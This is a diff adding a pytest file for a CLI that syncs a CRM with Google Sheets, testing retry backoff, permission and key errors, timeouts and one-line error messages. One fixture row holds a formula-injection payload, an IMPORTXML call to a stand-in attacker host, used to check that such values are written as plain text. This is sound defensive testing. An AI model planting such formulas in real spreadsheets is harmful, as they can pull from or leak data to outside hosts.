@@ -1,0 +1,224 @@
+"""What a user sees when Google says no: one line, a non-zero exit, nothing half-written."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from conftest import EN_HEADERS, EN_MANAGERS, TODAY, client_row
+from sheets_server import SheetsServer, google_env
+
+DAY = ["--date", TODAY.isoformat()]
+ROWS = [
+    {
+        "id": "C00001",
+        "client": "Daisy",
+        "manager": "Olga",
+        "status": "New",
+        "next_contact": "20.11.2026",
+    },
+    {
+        "client": '=IMPORTXML("http://evil.example/";"//a")',
+        "manager": "Ivan",
+        "status": "New",
+        "next_contact": "23.11.2026",
+    },
+]
+
+
+@pytest.fixture
+def google(tmp_path, monkeypatch):
+    yield from google_env(tmp_path, monkeypatch)
+
+
+def tabs(rows=ROWS):
+    return {
+        "Clients": [list(EN_HEADERS), *(client_row(EN_HEADERS, **r) for r in rows)],
+        "Managers": EN_MANAGERS,
+    }
+
+
+def one_line_error(result, code=2):
+    assert result.exit_code == code, result.output
+    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1, result.stderr
+    assert "Traceback" not in result.output
+    return result.stderr
+
+
+def test_429s_are_retried_with_growing_waits(google, run):
+    key = google.add(tabs())
+    google.server.fail(429, "values.batchGet", times=2)
+    google.server.fail(503, "values.batchUpdate", times=1)
+    result = run("sync", google.url(key), *DAY)
+    assert result.exit_code == 0, result.output
+    assert google.server.counts["values.batchGet"] == 2 + 2  # read + re-read, 2 refused
+    assert len(google.waits) == 3
+    # backoff 0.5 s then 1 s, each with jitter between half and all of it
+    assert 0.25 <= google.waits[0] <= 0.5 and 0.5 <= google.waits[1] <= 1.0
+    assert google.server.values(key, "Clients")[0][-1] == "Flags"
+
+
+def test_a_permanent_429_gives_up_within_the_bound_and_writes_nothing(google, run):
+    key = google.add(tabs())
+    assert run("sync", google.url(key), *DAY).exit_code == 0
+    google.server.books[key].sheet("Clients").put(1, 6, "not a date")  # a new finding
+    before = {t.title: google.server.values(key, t.title) for t in google.server.books[key].sheets}
+    google.server.fail(429, "values.batchUpdate", times=-1)
+    message = one_line_error(run("sync", google.url(key), *DAY))
+    assert "Google's Sheets API quota is used up (HTTP 429 after 5 attempts" in message
+    assert "wait a minute and run the command again. Nothing was written." in message
+    assert google.server.counts["values.batchUpdate"] == 1 + 5
+    assert len(google.waits) == 4 and sum(google.waits) <= 30
+    after = {t.title: google.server.values(key, t.title) for t in google.server.books[key].sheets}
+    assert after == before
+
+
+def test_retrying_stops_at_the_total_time_bound(google, run):
+    from sheetcrm.backends import gsheets
+
+    gsheets.SETTINGS.retry.total = 2.0
+    clock = iter(range(0, 100, 1))  # every look at the clock is a second later
+    gsheets.SETTINGS.retry.clock = lambda: float(next(clock))
+    key = google.add(tabs())
+    google.server.fail(500, "spreadsheets.get", times=-1)
+    message = one_line_error(run("today", google.url(key), *DAY))
+    assert "did not answer properly (HTTP 500 after" in message
+    assert google.server.counts["spreadsheets.get"] < 5
+
+
+def test_not_shared_names_the_service_account(google, run):
+    key = google.add(tabs(), shared={})
+    message = one_line_error(run("today", google.url(key), *DAY))
+    email = google.email
+    assert message == (
+        f"Error: Google Sheet {key}: the sheet is not shared with {email}: "
+        f"open it in Google Sheets, Share, add {email} as Editor\n"
+    )
+
+
+def test_view_only_access_says_to_make_it_an_editor(google, run):
+    key = google.add(tabs(), shared={google.email: "reader"})
+    assert run("today", google.url(key), *DAY).exit_code == 0
+    message = one_line_error(run("sync", google.url(key), *DAY))
+    assert f"{google.email} may read the sheet but not edit it" in message
+    assert "as Editor (not Viewer). Nothing was written." in message
+
+
+def test_no_such_sheet_says_check_the_url_and_names_the_account(google, run):
+    message = one_line_error(run("today", google.url("1" * 44), *DAY))
+    assert "no such spreadsheet (HTTP 404); check the URL or key" in message
+    assert f"add {google.email} as Editor" in message
+
+
+def test_revoked_key(google, run):
+    key = google.add(tabs())
+    google.server.accounts[google.email].revoked = True
+    message = one_line_error(run("today", google.url(key), *DAY))
+    assert f"Google rejected the service-account key {google.key_file}" in message
+    assert "invalid_grant: Invalid JWT Signature." in message
+    assert "create a new key" in message
+
+
+def test_no_network(google, run, tmp_path):
+    from sheetcrm.backends import gsheets
+
+    key = google.add(tabs())
+    with SheetsServer() as gone:
+        dead = gone.url
+    gsheets.SETTINGS.api_url = dead
+    message = one_line_error(run("today", google.url(key), *DAY))
+    assert "cannot reach Google (no network connection?)" in message
+    # the token endpoint unreachable too
+    info = json.loads(google.key_file.read_text())
+    info["token_uri"] = dead + "/token"
+    google.key_file.write_text(json.dumps(info))
+    assert "cannot reach Google" in one_line_error(run("today", google.url(key), *DAY))
+
+
+def test_missing_key_file(google, run, monkeypatch, tmp_path):
+    monkeypatch.setenv("SHEETCRM_GOOGLE_CREDENTIALS", str(tmp_path / "nope.json"))
+    message = one_line_error(run("today", google.url("1" * 44), *DAY))
+    assert "nope.json ($SHEETCRM_GOOGLE_CREDENTIALS): no such file" in message
+
+
+def test_missing_tab_and_column_are_the_excel_errors(google, run, tmp_path):
+    from conftest import write_book
+
+    for content in (
+        {"Sheet1": [["a"]], "Other": [["b"]]},
+        {"Clients": [["ID", "Phone"], ["1", "2"]]},
+    ):
+        path = write_book(tmp_path / "x.xlsx", content)
+        key = google.add(content)
+        a = run("today", str(path), *DAY)
+        b = run("today", google.url(key), *DAY)
+        one_line_error(b)
+        assert a.stderr.replace(str(path), "S").replace("x.xlsx", "S") == b.stderr.replace(
+            "Google Sheet 'CRM'", "S"
+        )
+
+
+def test_a_formula_looking_client_stays_text(google, run):
+    from sheets_server import Formula
+
+    key = google.add(tabs())
+    assert run("sync", google.url(key), *DAY).exit_code == 0
+    book = google.server.books[key]
+    for title in ("Clients", "Today"):
+        cells = [c for row in book.sheet(title).cells for c in row if c is not None]
+        assert not any(isinstance(c, Formula) for c in cells), title
+        assert '=IMPORTXML("http://evil.example/";"//a")' in cells, title
+    assert all(
+        body.get("valueInputOption") == "RAW"
+        for name, body in google.server.bodies
+        if name == "values.batchUpdate"
+    )
+
+
+def test_auth_check_reports_the_account_and_the_sheet(google, run):
+    key = google.add(tabs())
+    result = run("auth", "check", google.url(key))
+    assert result.exit_code == 0, result.output
+    assert result.stdout.splitlines() == [
+        f"Key file:        {google.key_file} (from $SHEETCRM_GOOGLE_CREDENTIALS)",
+        f"Service account: {google.email}",
+        "Sign-in:         ok",
+        f"Sheet:           'CRM' ({key})",
+        "Tabs:            Clients, Managers",
+        f"The account can open the sheet. To write back (sync, --apply), {google.email} "
+        "must be an Editor of it.",
+    ]
+    alone = run("auth", "check")
+    assert alone.exit_code == 0 and "No sheet given" in alone.stdout
+    hidden = google.add(tabs(), shared={})
+    message = one_line_error(run("auth", "check", hidden))
+    assert f"not shared with {google.email}" in message
+
+
+def test_auth_check_with_a_revoked_key(google, run):
+    google.server.accounts[google.email].revoked = True
+    assert "invalid_grant" in one_line_error(run("auth", "check"))
+
+
+def test_a_server_that_does_not_answer_in_time(google, run):
+    from sheetcrm.backends import gsheets
+
+    gsheets.SETTINGS.timeout = (5, 0.2)
+    key = google.add(tabs())
+    google.server.delays["spreadsheets.get"] = 0.5
+    message = one_line_error(run("today", google.url(key), *DAY))
+    assert "Google did not answer in time (5 attempts in" in message
+    assert google.server.counts["spreadsheets.get"] == 5
+
+
+def test_a_first_sync_cut_short_says_what_was_written(google, run):
+    key = google.add(tabs())
+    google.server.fail(429, "values.batchUpdate", times=-1)
+    message = one_line_error(run("sync", google.url(key), *DAY))
+    assert message.endswith(
+        "Part of the change was written (only new tabs or columns); run the command again to "
+        "finish.\n"
+    )
+    google.server.faults.clear()
+    assert run("sync", google.url(key), *DAY).exit_code == 0
+    assert google.server.values(key, "Today")[0][0] == "Manager"
